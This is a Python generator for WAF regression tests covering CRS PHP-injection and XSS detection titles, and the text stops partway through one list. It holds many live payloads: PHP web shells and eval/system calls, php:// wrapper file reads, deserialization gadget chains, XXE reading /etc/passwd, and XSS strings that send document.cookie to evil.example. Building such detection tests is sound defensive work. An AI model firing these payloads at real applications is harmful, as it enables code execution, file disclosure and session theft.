"""Blind set "hundredtwentieth": positive regression tests for the PHP-injection and XSS detection titles of CRS
3.3.4 (paranoia levels 1 and 2, plus the titles CRS 4.x added), written as a rule author who exploits real stacks.

Angle: every payload is aimed at one named, real application stack and is shaped the way that stack's parameters
carry it. PHP (WordPress, Laravel, Drupal, plain mod_php / PHP-FPM, php-cgi, PHP under IIS FastCGI) gets array
parameters (``a[]=``, ``a[b]=``, Drupal's ``name[0][value]``); Java (Spring, Struts, Tomcat/JSP) gets bean-path names
(``user.name``, ``searchForm.keyword``) and matrix parameters in the path (``;jsessionid=..;q=``); ASP.NET on IIS
gets ``%uXXXX`` encoding and WebForms control names (``ctl00$MainContent$txtSearch``); Node (Express) gets qs nested
objects (``user[profile][bio]``), nested JSON and cookie-parser's ``j:`` JSON cookies; Python (Django, Flask) gets
repeated form keys and JSON lists; Ruby on Rails gets ``user[name]`` and XML bodies; Go and CGI scripts get plain
or bare query strings. The stack of every payload is named in a comment beside it.

Families and sub-families (one sub-family per detection title, kebab-case from the title; titles that CRS repeats
verbatim -- "Variable Function Call Found", "IE XSS Filters - Attack Detected", the two libinjection titles -- get a
suffix naming the vector, so each title keeps a sub-family of its own):
  php: php-open-tag, php-script-file-upload, php-configuration-directive, php-variables, php-io-stream,
       php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object-injection,
       php-variable-function-call, php-variable-function-call-expression, php-medium-risk-function-name.
  xss: xss-libinjection, xss-script-tag-vector, xss-event-handler-vector, xss-attribute-vector,
       xss-javascript-uri-vector, noscript-html-injection, noscript-attribute-injection,
       node-validator-blacklist-keywords, ie-xss-filters-{style, vmlframe, javascript-obfuscated, vbscript, embed,
       import-implementation, meta-http-equiv, meta-charset, link-href, base-href, applet, object,
       js-string-breakout, js-property-assignment}, us-ascii-malformed-encoding, utf7-encoding-ie-xss,
       jsfuck-hieroglyphy-obfuscation, javascript-global-variable, xss-libinjection-pl2,
       xss-disallowed-html-attributes, xss-html-tag-handler, angularjs-template-injection, and from CRS 4.x
       javascript-method, xss-function-without-parentheses.

Placements: every payload is sent twice. Once to our own routes, rotating over query (/api/users), form
(/admin/users/search with csrf_token), json (/api/users), cookie, header:User-Agent, header:Referer, header:<a
stack's own header>, param-name, xml (/api/users), multipart-field, multipart-filename and path; once the way a WAF's
regression suite sends it, to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary names (foo, var, x, test, id, arg1): rs-query, rs-form, rs-json, rs-xml,
rs-raw-body (a form-typed body that is not key=value), rs-header:User-Agent, rs-header:Referer, rs-header:<custom>,
rs-cookie. Upload names go to multipart filenames and X-Filename / X-File-Name headers; the path-and-Referer
libinjection title goes to URL paths and Referer headers. Payloads with a line break skip header, cookie and
filename placements (the next placement in the rotation is taken).

Benign half: Slack messages and bios (chat_and_bio), Slack messages in Slack's own markup, public links and admin
search prose (links_and_prose), user searches, profiles with names and addresses, file uploads and an XML import,
all carrying the same words (script, alert, document, style, import, eval, system, php, wrapper names) innocently.

Authorship and independence: written from general knowledge and the detection titles alone -- no rule file,
engine code, ruleset regression test or public payload list was read -- and measured once on unchanged code.
Deterministic: no clock, no randomness; every record is fixed by the lists below.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose, slack_message
from .records import numbered, print_records

NAME = "hundredtwentieth"

# A payload: (stack, payload) or (stack, payload, parameter name the stack uses for it).
Entry = tuple[str, ...]

# ---------------------------------------------------------------------------------------------------------------
# PHP family
# ---------------------------------------------------------------------------------------------------------------
PHP_OPEN_TAG: list[Entry] = [
    ("wp", "<?php system($_GET['cmd']); ?>"),  # WordPress: comment saved by a theme-editor plugin into a .php file
    ("laravel", "<?= shell_exec($_GET['c']) ?>"),  # Laravel: short echo tag in a Blade view compiled from input
    ("drupal", "<? passthru('uname -a'); ?>"),  # Drupal 7: short open tag in a body field with the PHP filter
    ("php", "<?PHP echo file_get_contents('/etc/passwd');"),  # Apache mod_php: upper-case tag, no closing tag
    ("php", "<?php\n@eval($_POST['z']);"),  # PHP-FPM: newline after the tag, one-line web shell
    ("drupal", "[php]print phpinfo();[/php]"),  # Drupal / phpBB-style BBCode php block evaluated by a filter
    ("wp", "?><?php echo 1337*2; ?>"),  # WordPress: close the eval'd string's tag, open a fresh one
    ("iis-php", "<?php/**/system('whoami');"),  # IIS + PHP FastCGI: comment glued to the tag
    ("cgi", "<?=`id`;"),  # CGI script logging input to a file a PHP page includes (log poisoning)
    ("php", "<script language=\"php\">system('id');</script>"),  # PHP 5: the script-language open tag
    ("laravel", "<?php\tfile_put_contents('s.php', $_POST['d']);"),  # Laravel: tab after the tag, dropper
    ("express", "<?php include $_GET['p']; ?>"),  # Express: text upload written to a docroot PHP also serves
]

PHP_UPLOAD: list[Entry] = [
    ("wp", "shell.php"),  # WordPress: async-upload.php media upload of a PHP file
    ("laravel", "avatar.phtml"),  # Laravel: avatar upload trusting the client's extension
    ("drupal", "logo.php5"),  # Drupal 7 file field; Apache's handler maps .php5
    ("php", "cmd.php7"),  # Apache + PHP 7 handler matching .php7
    ("php", "update.phar"),  # PHP: a phar the php handler executes
    ("php", "x.pht"),  # Debian's Apache php config executes .pht
    ("php", "source.phps"),  # mod_php's .phps source handler
    ("iis-php", "image.php;.jpg"),  # IIS semicolon parsing in front of PHP FastCGI
    ("wp", "invoice.pdf.php"),  # WordPress plugin checking only the first extension
    ("express", "backdoor.PhP"),  # Express + multer saving into a folder a PHP vhost serves, mixed case
    ("spring", "report.php3"),  # Spring MultipartFile stored under an Apache/PHP docroot
    ("rails", "x.php4"),  # Rails ActiveStorage disk service shared with a legacy PHP vhost
]

PHP_CONFIG: list[Entry] = [
    ("php-cgi", "-d allow_url_include=1 -d auto_prepend_file=php://input"),  # php-cgi argv injection (CVE-2012-1823)
    ("php-cgi", "-d safe_mode=Off -d disable_functions=NULL"),  # php-cgi: lift safe_mode and the disabled list
    ("php", "auto_prepend_file=/var/lib/php/sessions/sess_abc123"),  # .user.ini written by an uploader
    ("wp", "auto_append_file=php://input"),  # WordPress file-manager plugin writing .user.ini
    ("laravel", "open_basedir=/"),  # Laravel env-editor package writing a php.ini fragment
    ("drupal", "allow_url_fopen = On"),  # Drupal settings form copying into a php.ini
    ("iis-php", "register_globals=On"),  # IIS PHP Manager: per-site ini override
    ("php", "disable_functions="),  # PHP-FPM pool file via a hosting panel
    ("php", "php_value auto_prepend_file \"/tmp/x\""),  # Apache .htaccess upload: php_value directive
    ("express", "error_log=/var/www/html/log.php"),  # Node admin UI writing a PHP-FPM pool's php_admin_value
    ("php", "include_path=.:/tmp"),  # .user.ini: include path into /tmp
    ("php", "session.save_path=/var/www/html/uploads"),  # .user.ini: sessions written under the docroot
]

PHP_VARS: list[Entry] = [
    ("wp", "echo $_GET['c'];"),  # WordPress: snippet-plugin code field
    ("laravel", "print_r($_POST);"),  # Laravel: Tinker-like debug route
    ("drupal", "{${print($_COOKIE['d'])}}"),  # Drupal 7: complex curly syntax in an eval'd double-quoted string
    ("php", "$_REQUEST['x']"),  # mod_php: template engine evaluating {$...}
    ("php", "$_SERVER['HTTP_USER_AGENT']"),  # PHP-FPM: variable interpolated by a mail template
    ("iis-php", "$_ENV['DB_PASSWORD']"),  # IIS + PHP: env dump
    ("php", "$_FILES['f']['tmp_name']"),  # mod_php: upload path disclosure via eval
    ("php", "$_SESSION['is_admin']=1;"),  # mod_php: session write
    ("wp", "var_dump($GLOBALS);"),  # WordPress: dump of globals (DB creds live there)
    ("php", "$HTTP_RAW_POST_DATA"),  # PHP 5: raw body global
    ("php-cgi", "$http_response_header"),  # php-cgi: magic variable
    ("php", "$HTTP_GET_VARS['x']"),  # PHP 4/5 long arrays
]

PHP_IO: list[Entry] = [
    ("wp", "php://filter/convert.base64-encode/resource=wp-config.php"),  # WordPress theme ?template= LFI
    ("laravel", "php://filter/read=string.rot13/resource=../.env"),  # Laravel: view name into include
    ("drupal", "php://input"),  # Drupal 7: include of php://input with the body as code
    ("php", "php://stdin"),  # php-cli wrapper behind a CGI
    ("php", "php://output"),  # mod_php: copy() to php://output
    ("php", "php://memory"),  # mod_php: stream target
    ("php", "php://temp/maxmemory:1024"),  # mod_php: temp stream with options
    ("php", "php://fd/3"),  # PHP-FPM: raw file descriptor
    ("php", "php://stderr"),  # PHP-FPM: write to the worker's stderr
    ("iis-php", "PHP://Filter/resource=C:\\inetpub\\wwwroot\\web.config"),  # IIS + PHP: case-insensitive wrapper
    ("php", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp"),  # filter chain
    ("go", "php://filter/zlib.deflate/resource=/etc/passwd"),  # Go reverse proxy forwarding ?file= to a PHP backend
]

PHP_WRAPPER: list[Entry] = [
    ("wp", "phar://wp-content/uploads/2024/06/avatar.jpg/x"),  # WordPress: phar deserialization via file_exists
    ("laravel", "zip://storage/app/uploads/doc.zip#shell.php"),  # Laravel: include of a zip member
    ("drupal", "compress.zlib://../../sites/default/settings.php"),  # Drupal: zlib stream read
    ("php", "compress.bzip2:///tmp/x.bz2"),  # mod_php: bzip2 stream
    ("php", "expect://id"),  # mod_php with the expect extension
    ("php", "glob:///var/www/html/*.php"),  # PHP: directory listing via glob://
    ("php", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),  # allow_url_include: data stream of code
    ("php", "ssh2.exec://user:pw@127.0.0.1:22/id"),  # PHP with ext-ssh2
    ("php", "ssh2.shell://user:pw@example.org:22/xterm"),  # ext-ssh2 shell
    ("php", "rar://uploads/a.rar#x.php"),  # PECL rar wrapper
    ("php", "ogg://uploads/song.ogg"),  # PECL oggvorbis wrapper
    ("iis-php", "zlib:C:\\Windows\\win.ini"),  # IIS + PHP: old zlib: wrapper
]

PHP_HIGH_NAME: list[Entry] = [
    ("wp", "phpinfo", "action"),  # WordPress admin-ajax.php: plugin dispatching action= to a function
    ("laravel", "shell_exec", "sort[callback]"),  # Laravel: collection callback from the request
    ("drupal", "passthru", "mail[#post_render][]"),  # Drupal 8: Form API render callback (Drupalgeddon 2 shape)
    ("php", "base64_decode", "cb"),  # mod_php: array_map($_GET['cb'], ...)
    ("php", "create_function", "fn"),  # PHP 5/7: create_function callback
    ("php", "proc_open", "handler"),  # PHP-FPM: handler table lookup
    ("php", "pcntl_exec", "callback"),  # php-cli worker behind CGI
    ("php", "popen", "func"),  # mod_php: dynamic dispatcher
    ("iis-php", "assert", "f"),  # IIS + PHP 5: assert as callback
    ("wp", "call_user_func_array", "hook"),  # WordPress: add_filter name from request
    ("php", "file_put_contents", "op"),  # mod_php: file manager op name
    ("php", "move_uploaded_file", "method"),  # mod_php: JSON-RPC method name
]

PHP_HIGH_CALL: list[Entry] = [
    ("wp", "system('cat ../wp-config.php');"),  # WordPress: snippet plugin code field
    ("laravel", "exec(\"id\", $o); print_r($o);"),  # Laravel: eval of a stored expression
    ("drupal", "passthru ('uname -a');"),  # Drupal 7 PHP filter: space before the parenthesis
    ("php", "shell_exec/**/('whoami')"),  # mod_php: comment between name and call
    ("php", "eval(base64_decode('cGhwaW5mbygpOw=='));"),  # mod_php: classic obfuscated eval
    ("php", "assert(\"phpinfo()\");"),  # PHP 5/7: assert with string
    ("php", "popen('id', 'r');"),  # PHP-FPM
    ("php", "proc_open('sh', [], $p);"),  # PHP-FPM
    ("php", "pcntl_exec('/bin/sh', ['-c', 'id']);"),  # php-cli worker
    ("iis-php", "file_get_contents('C:/Windows/win.ini')"),  # IIS + PHP FastCGI
    ("php", "readfile\t('/etc/passwd');"),  # mod_php: tab before the parenthesis
    ("php", "preg_replace('/.*/e', 'system(\"id\")', '');"),  # PHP 5: /e modifier
]

PHP_SERIALIZED: list[Entry] = [
    ("laravel", 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:6:"events";O:15:"Faker\\Generator":1:'
                '{s:10:"formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:5:"event";s:2:"id";}'),  # Laravel gadget
    ("drupal", 'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:7:"methods";a:1:{s:5:"close";s:7:"phpinfo";}'
               's:9:"_fn_close";s:7:"phpinfo";}'),  # Drupal 8 REST: Guzzle FnStream gadget
    ("php", 'O:+8:"stdClass":0:{}'),  # PHP < 7.3: plus sign before the length
    ("wp", 'a:2:{i:0;s:4:"user";i:1;O:6:"Logger":1:{s:7:"logfile";s:9:"shell.php";}}'),  # WordPress plugin option
    ("php", 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}'),  # Serializable custom format
    ("laravel", 'O:29:"Illuminate\\Support\\MessageBag":0:{}'),  # Laravel: decrypted cookie value
    ("wp", 'a:1:{s:4:"user";O:7:"WP_User":1:{s:2:"ID";i:1;}}'),  # WordPress: maybe_unserialize of user meta
    ("php", 'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}'),
    ("iis-php", 'O:9:"Exception":1:{s:7:"message";s:5:"hello";}'),  # IIS + PHP: built-in class
    ("php", 'O:8:"stdClass":1:{s:1:"a";R:1;}'),  # mod_php: self reference
    ("php", 'O:33:"Symfony\\Component\\Process\\Process":1:{s:11:"commandline";s:2:"id";}'),  # Symfony gadget
]

PHP_VARFN: list[Entry] = [
    ("wp", "$f='system';$f('id');"),  # WordPress: snippet plugin
    ("laravel", "$_GET['a']($_GET['b']);"),  # Laravel: eval'd expression calling a request value
    ("drupal", "${'_POST'}['f']('id');"),  # Drupal 7 PHP filter: variable-variable superglobal
    ("php", "$a[0]('cat /etc/passwd');"),  # mod_php: array element as callee
    ("php", "$x{0}($x{1});"),  # PHP 5/7: curly string offset as callee
    ("php", "$$n('id');"),  # mod_php: variable variable callee
    ("php", "$_='assert';$_($_POST[1]);"),  # PHP 5: underscore variable shell
    ("php", "@$_COOKIE['c'](@$_COOKIE['d']);"),  # PHP-FPM: cookie-driven shell
    ("iis-php", "$GLOBALS['fn']('whoami');"),  # IIS + PHP: globals lookup
    ("php", "$f ('id');"),  # mod_php: space before the call
    ("php", "$obj->cb['x']('id');"),  # mod_php: property array element callee
    ("php", "${'fn'}('id');"),  # mod_php: braced variable name
]

PHP_VARFN_EXPR: list[Entry] = [
    ("wp", "('system')('id');"),  # WordPress: PHP 7 call of a parenthesised string
    ("laravel", "\"shell_exec\"('whoami');"),  # Laravel (PHP 8): string literal callee
    ("drupal", "(passthru)('ls');"),  # Drupal on PHP 7: bare constant as callee
    ("php", "('sys'.'tem')('id');"),  # PHP 7: concatenated callee
    ("php", "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id');"),  # PHP 7: hex-escaped callee
    ("php", "(strrev('metsys'))('id');"),  # PHP 7: computed callee
    ("php", "base64_decode('c3lzdGVt')('id');"),  # PHP 7: call result called
    ("php", "['system'][0]('id');"),  # PHP 7: array literal element
    ("php", "[new ReflectionFunction('system'), 'invoke']('id');"),  # PHP 7: callable array
    ("iis-php", "(chr(115).'ystem')('whoami');"),  # IIS + PHP 7
    ("php", "'assert'($_POST[1]);"),  # PHP 7: single-quoted callee
    ("php", "(str_rot13('flfgrz'))('id');"),  # PHP 7: rot13 callee
]

PHP_MEDIUM_NAME: list[Entry] = [
    ("wp", "fopen", "action"),  # WordPress admin-ajax action dispatch
    ("laravel", "fwrite", "callback"),  # Laravel: callback name
    ("drupal", "unlink", "element[#post_render][]"),  # Drupal Form API callback
    ("php", "chmod", "op"),  # mod_php file manager
    ("php", "mkdir", "cmd"),  # mod_php file manager
    ("php", "curl_exec", "fn"),  # PHP-FPM proxy script
    ("php", "fsockopen", "method"),  # JSON-RPC method name
    ("php", "php_uname", "f"),  # mod_php dispatcher
    ("iis-php", "getenv", "func"),  # IIS + PHP dispatcher
    ("php", "gzinflate", "decoder"),  # mod_php: decoder chosen by the client
    ("php", "str_rot13", "filter"),  # mod_php: output filter name
    ("php", "posix_getpwuid", "handler"),  # php-cli worker
]

# ---------------------------------------------------------------------------------------------------------------
# XSS family
# ---------------------------------------------------------------------------------------------------------------
XSS_LIBINJECTION: list[Entry] = [
    ("wp", "<script>alert(document.domain)</script>"),  # WordPress: comment body
    ("laravel", "<img src=x onerror=alert(1)>"),  # Laravel: Blade {!! $bio !!}
    ("spring", "\"><svg/onload=alert(1)>"),  # Spring: Thymeleaf th:utext after an attribute breakout
    ("aspnet", "<iframe src=\"javascript:alert(1)\"></iframe>"),  # ASP.NET WebForms, %u-encoded past validation
    ("express", "<body onload=prompt(1)>"),  # Express: res.send of a query value
    ("django", "'><details open ontoggle=confirm(1)>"),  # Django: |safe on a search term
    ("flask", "<a href=\"javascript:alert(1)\">click</a>"),  # Flask: Markup() of user input
    ("rails", "<input autofocus onfocus=alert(1)>"),  # Rails: raw / html_safe in a view
    ("go", "<video><source onerror=\"alert(1)\"></video>"),  # Go: text/template instead of html/template
    ("cgi", "<marquee onstart=alert(1)>x</marquee>"),  # CGI (Perl) printing the query back
    ("drupal", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),  # Drupal: filter-mutation XSS
    ("struts", "</textarea><script>alert(1)</script>"),  # Struts: s:textarea escape=false
]

XSS_SCRIPT: list[Entry] = [
    ("wp", "<script>alert(1)</script>"),  # WordPress: unfiltered_html comment
    ("laravel", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),  # Laravel: upper-case tag
    ("spring", "<script type=\"text/javascript\">fetch('//evil.example/?c='+document.cookie)</script>"),  # Spring MVC
    ("aspnet", "<script/src=//evil.example/a.js></script>"),  # ASP.NET: slash instead of a space
    ("express", "<script\nsrc=\"//evil.example/x.js\"></script>"),  # Express: newline separator
    ("django", "</title><script>alert(1)</script>"),  # Django: title block breakout
    ("flask", "<scr<script>ipt>alert(1)</script>"),  # Flask: one-pass tag-stripping filter bypass
    ("rails", "<script src=data:,alert(1)></script>"),  # Rails: data: script source
    ("go", "<svg><script>alert(1)</script></svg>"),  # Go: script inside SVG
    ("cgi", "<script async src=//evil.example/x.js></script>"),  # CGI guestbook
    ("tomcat", "<script\tsrc=//evil.example/x.js></script>"),  # Tomcat JSP: tab separator
    ("drupal", "<ScRiPt>confirm(1)</ScRiPt>"),  # Drupal: mixed case
]

XSS_EVENT: list[Entry] = [
    ("wp", "<img src=x onerror=alert(1)>"),  # WordPress: comment
    ("laravel", "<body onload=alert(1)>"),  # Laravel: profile page
    ("spring", "\" onmouseover=\"alert(1)"),  # Spring: value=\"${param}\" attribute breakout
    ("aspnet", "<input onfocus=alert(1) autofocus>"),  # ASP.NET
    ("express", "<details ontoggle=alert(1) open>"),  # Express
    ("django", "<div onpointerenter=alert(1)>hover</div>"),  # Django
    ("flask", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),  # Flask: SVG animation event
    ("rails", "<a onclick=\"alert(1)\">x</a>"),  # Rails
    ("go", "<b style=\"animation-name:x\" onanimationstart=\"alert(1)\">"),  # Go: CSS animation event
    ("cgi", "<body onpageshow=alert(1)>"),  # CGI
    ("struts", "' onwheel='alert(1)"),  # Struts: single-quoted attribute breakout
    ("drupal", "<img src=x onerror = alert(1)>"),  # Drupal: spaces around '='
]

XSS_ATTRIBUTE: list[Entry] = [
    ("wp", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>"),  # WordPress SVG upload text
    ("laravel", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),  # Laravel
    ("spring", "<form><button formaction=javascript:alert(1)>go</button></form>"),  # Spring
    ("aspnet", "<html xmlns:x=\"urn:x\"><x:script>alert(1)</x:script></html>"),  # ASP.NET: namespaced script
    ("express", "<input pattern=\".*\" oninvalid=alert(1) required>"),  # Express
    ("django", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"),  # Django: DTD in an upload field
    ("flask", "<style>@import 'https://evil.example/x.css';</style>"),  # Flask
    ("rails", "<object data=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"></object>"),  # Rails
    ("go", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),  # Go
    ("cgi", "<math xlink:href=\"javascript:alert(1)\">x</math>"),  # CGI
    ("tomcat", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>"),  # Tomcat JSPX
    ("drupal", "<!ENTITY % ext SYSTEM \"https://evil.example/x.dtd\">"),  # Drupal: parameter entity
]

XSS_JS_URI: list[Entry] = [
    ("wp", "<div style=\"background-image:url(javascript:alert(1))\">"),  # WordPress: style kept by a page builder
    ("laravel", "<p style=\"color:red;background:url(javascript:alert(1))\">"),  # Laravel
    ("spring", "<a href=\"javascript:alert(document.cookie)\">x</a>"),  # Spring
    ("aspnet", "<table background=\"javascript:alert(1)\">"),  # ASP.NET (IE)
    ("express", "<img src=\"javascript:alert(1)\">"),  # Express
    ("django", "<span style=\"list-style-image:url(javascript:alert(1))\">"),  # Django
    ("flask", "<iframe src=\"javascript:alert(1)\">"),  # Flask
    ("rails", "<form action=\"javascript:alert(1)\"><input type=submit>"),  # Rails
    ("go", "<img dynsrc=\"javascript:alert(1)\">"),  # Go (IE dynsrc)
    ("cgi", "<img lowsrc=\"javascript:alert(1)\">"),  # CGI (IE lowsrc)
    ("struts", "<div style=\"width:1px;background:url(javascript:alert(1))\">"),  # Struts
    ("drupal", "<input type=image src=\"javascript:alert(1)\">"),  # Drupal
]

NOSCRIPT_HTML: list[Entry] = [
    ("wp", "<iframe src=//evil.example/phish></iframe>"),  # WordPress
    ("laravel", "<form action=https://evil.example/login method=post><input name=pass type=password></form>"),
    ("spring", "<style>body{display:none}</style>"),  # Spring
    ("aspnet", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("express", "<svg onload=alert(1)>"),  # Express
    ("django", "<object data=//evil.example/x.swf></object>"),  # Django
    ("flask", "<embed src=//evil.example/x.swf>"),  # Flask
    ("rails", "<link rel=import href=//evil.example/x.html>"),  # Rails
    ("go", "<base href=//evil.example/>"),  # Go
    ("cgi", "<meta http-equiv=refresh content=0;url=//evil.example>"),  # CGI
    ("tomcat", "<frameset><frame src=//evil.example></frameset>"),  # Tomcat
    ("drupal", "<isindex type=image src=1 onerror=alert(1)>"),  # Drupal
]

NOSCRIPT_ATTR: list[Entry] = [
    ("wp", "javascript:alert(document.domain)", "redirect_to"),  # WordPress wp-login.php redirect_to
    ("laravel", "javascript:window['al'+'ert'](1)", "intended"),  # Laravel: intended URL
    ("spring", "JaVaScRiPt:alert(name)", "returnTo"),  # Spring Security return URL
    ("aspnet", "javascript:\\u0061lert(1)", "ReturnUrl"),  # ASP.NET forms auth ReturnUrl
    ("express", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "next"),  # Express redirect
    ("django", "data:text/html,<script>alert(1)</script>", "next"),  # Django ?next=
    ("flask", "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>", "avatar"),  # Flask avatar URL
    ("rails", "@import url(//evil.example/x.css);", "user[custom_css]"),  # Rails: custom CSS field
    ("go", "x{-moz-binding:url(//evil.example/x.xml#xss)}", "theme"),  # Go: theme CSS
    ("cgi", "javascript:eval(location.hash.slice(1))", "url"),  # CGI redirect script
    ("tomcat", "@im\\port '//evil.example/x.css';", "css"),  # Tomcat JSP: escaped @import
    ("drupal", "javascript://\nalert(1)", "destination"),  # Drupal ?destination= with comment + newline
]

NODE_VALIDATOR: list[Entry] = [
    ("express", "document.cookie"),  # Express: node-validator-era blacklist word
    ("wp", "<img src=x onerror=\"new Image().src='//evil.example/?c='+document.cookie\">"),  # WordPress
    ("laravel", "document.write('<script src=//evil.example/x.js></script>')"),  # Laravel
    ("spring", "this.parentNode.removeChild(this)"),  # Spring
    ("aspnet", "el.innerHTML=location.hash.slice(1)"),  # ASP.NET
    ("django", "window.location='https://evil.example/'"),  # Django
    ("flask", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),  # Flask: comment confusion
    ("rails", "--><svg onload=alert(1)>"),  # Rails: close an HTML comment
    ("go", "<![CDATA[<script>alert(1)</script>]]>"),  # Go: CDATA section
    ("cgi", "-moz-binding:url(http://evil.example/xbl.xml#x)"),  # CGI: XBL binding
    ("tomcat", "document.body.innerHTML='<h1>owned</h1>'"),  # Tomcat
    ("drupal", "x.parentNode.innerHTML=1"),  # Drupal
]

IE_STYLE: list[Entry] = [
    ("wp", "<style>@import 'http://evil.example/x.css';</style>"),  # WordPress
    ("laravel", "<STYLE>body{background:url(\"javascript:alert(1)\")}</STYLE>"),  # Laravel
    ("spring", "<style>*{x:expression(alert(1))}</style>"),  # Spring (IE expression())
    ("aspnet", "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"),  # ASP.NET
    ("express", "<style type=\"text/css\">@\\import'//evil.example/x.css';</style>"),  # Express: escaped @import
    ("django", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>"),  # Django: escapes everywhere
    ("flask", "<style>div{behavior:url(//evil.example/x.htc)}</style>"),  # Flask: IE behavior
    ("rails", "<style>a{-moz-binding:url(//evil.example/x.xml#x)}</style>"),  # Rails: XBL
    ("go", "<style>p{width:expression(alert(1))}</style>"),  # Go
    ("cgi", "<style>@import url(javascript:alert(1));</style>"),  # CGI
    ("drupal", "<style>body{background:url(&#106;avascript:alert(1))}</style>"),  # Drupal: entity in url()
]

IE_VMLFRAME: list[Entry] = [
    ("wp", "<v:vmlframe src=\"//evil.example/x.vml#x\">"),  # WordPress (IE VML)
    ("aspnet", "<x:vmlframe src=\"//evil.example/a.vml\"></x:vmlframe>"),  # ASP.NET: other prefix
    ("spring", "<v:vmlframe src=//evil.example/x.vml>"),  # Spring: unquoted
    ("express", "<v:vmlframe/src=\"//evil.example/x.vml\">"),  # Express: slash separator
    ("django", "<xml:namespace prefix=v><v:vmlframe src=\"//evil.example/x.vml\">"),  # Django
    ("flask", "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"javascript:alert(1)\">"),  # Flask
    ("rails", "<V:VMLFRAME SRC=\"//evil.example/x.vml\">"),  # Rails: upper case
    ("go", "<v:vmlframe\tsrc\t=\t\"//evil.example/x.vml\">"),  # Go: tabs
    ("cgi", "<abc:vmlframe src=//evil.example/x.vml#a>"),  # CGI
    ("laravel", "<v:vmlframe style=\"behavior:url(#default#VML)\" src=\"//evil.example/x.vml\">"),  # Laravel
]

IE_JS_OBFUSCATED: list[Entry] = [
    ("wp", "&#106;avascript:alert(1)"),  # WordPress: decimal entity for j
    ("laravel", "jav&#x09;ascript:alert(1)"),  # Laravel: tab entity
    ("spring", "j&#x61;vascript:alert(1)"),  # Spring: hex entity for a
    ("aspnet", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)"),  # ASP.NET: all hex
    ("express", "javas&#99;ript:alert(1)"),  # Express: decimal entity for c
    ("django", "ja&#0000118;ascript:alert(1)"),  # Django: zero-padded entity
    ("flask", "java&#x0A;script:alert(1)"),  # Flask: newline entity
    ("rails", "jav&#x0D;ascript:alert(1)"),  # Rails: carriage-return entity
    ("go", "&#74;&#65;&#86;&#65;script:alert(1)"),  # Go: upper-case letters as entities
    ("cgi", "java\tscript:alert(1)"),  # CGI: raw tab
    ("tomcat", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"),  # Tomcat: in an href
    ("drupal", "<img src=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
               "&#0000116&#0000058alert(1)\">"),  # Drupal: padded entities without semicolons
]

IE_VBSCRIPT: list[Entry] = [
    ("aspnet", "vbscript:msgbox(1)"),  # ASP.NET intranet app (IE)
    ("wp", "<a href=\"vbscript:MsgBox(document.cookie)\">x</a>"),  # WordPress
    ("laravel", "vbs&#99;ript:msgbox(1)"),  # Laravel: entity c
    ("spring", "&#x76;bscript:msgbox(1)"),  # Spring: hex entity v
    ("express", "VBScript:Execute(\"MsgBox 1\")"),  # Express
    ("django", "vb&#x09;script:msgbox(1)"),  # Django: tab entity
    ("flask", "<img src=\"vbscript:msgbox('x')\">"),  # Flask
    ("rails", "&#86;&#66;&#83;cript:alert(1)"),  # Rails: upper-case entities
    ("go", "vbscr&#x69;pt:msgbox(1)"),  # Go: entity i
    ("cgi", "<iframe src=vbscript:msgbox(1)>"),  # CGI
]

IE_EMBED: list[Entry] = [
    ("wp", "<embed src=\"//evil.example/x.swf\">"),  # WordPress
    ("aspnet", "<EMBED type=\"image/svg+xml\" src=\"//evil.example/x.svg\">"),  # ASP.NET
    ("spring", "<embed/src=//evil.example/x.swf>"),  # Spring
    ("laravel", "<embed src=\"javascript:alert(1)\">"),  # Laravel
    ("express", "<embed allowscriptaccess=always src=//evil.example/x.swf>"),  # Express
    ("django", "<embed\ttype=text/html src=//evil.example/x.html>"),  # Django
    ("flask", "<embed code=//evil.example/x.class>"),  # Flask
    ("rails", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">"),
    ("go", "<embed height=1 width=1 src=//evil.example/a.swf>"),  # Go
    ("cgi", "<embed src=data:text/html,<script>alert(1)</script>>"),  # CGI
]

IE_IMPORT: list[Entry] = [
    ("aspnet", "<?import namespace=\"t\" implementation=\"#default#time2\">"),  # ASP.NET (IE HTML+TIME)
    ("wp", "<import implementation=\"//evil.example/x.htc\">"),  # WordPress
